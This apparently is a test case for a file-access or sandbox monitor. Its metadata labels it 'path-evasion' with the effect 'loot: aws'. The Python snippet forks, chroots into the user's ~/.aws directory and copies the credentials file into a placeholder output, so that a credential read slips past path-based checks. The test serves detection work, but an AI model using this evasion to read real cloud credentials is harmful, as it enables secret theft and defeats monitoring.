#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
f = os.open("@LOOT@", os.O_WRONLY | os.O_CREAT, 0o644); p = os.fork()
if not p: os.chroot(HOME + "/.aws"); os.chdir("/"); os.write(f, open("/credentials", "rb").read()); os._exit(0)
os.waitpid(p, 0)
